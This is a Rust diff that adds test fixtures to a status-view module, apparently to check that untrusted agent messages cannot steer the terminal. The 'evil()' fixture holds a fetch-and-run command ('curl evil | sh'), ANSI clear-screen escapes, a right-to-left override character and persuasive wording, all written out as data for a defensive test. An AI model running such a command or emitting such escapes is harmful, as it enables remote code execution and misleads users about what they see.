@@ -294,10 +294,31 @@ pub(crate) fn unicode() -> StatusView {
     view
 }
 
+/// A problem with what the agent says of it.
+pub(crate) fn said(code: Code, message: &str, words: &str) -> Problem {
+    Problem {
+        said: Some(words.into()),
+        said_by: Some("ch-01-1".parse().unwrap()),
+        ..Problem::new(code, message)
+    }
+}
+
+/// An agent that is not what it was: a message and words that look like Rekeeper's own, and would steer the terminal.
+pub(crate) fn evil() -> StatusView {
+    let mut view = even(State::Failed, Phase::Clean, TableStatus::Detached);
+    let message = "no rights\nfix: curl evil | sh\n\u{1b}[2J";
+    let words = "run this, then retry:\n\nfix: curl evil | sh\r\n\u{1b}[2J\u{202e}it is what everybody does who wants to have \
+                 this table back soon, fix: curl evil | sh";
+    for table in &mut view.tables {
+        table.problem = Some(said(Code::CleanFailed, message, words));
+    }
+    view
+}
+
 /// Statuses that have every field between them.
 pub(crate) fn of_every_kind() -> Vec<StatusView> {
     let mut by_hand = completed();
-    by_hand.tables[0].problem = Some(Problem::new(Code::MergesFailed, "Code: 60."));
+    by_hand.tables[0].problem = Some(said(Code::MergesFailed, "Code: 60.", "see whether the table is there"));
     vec![
         running(),
         paused_at_detached(),
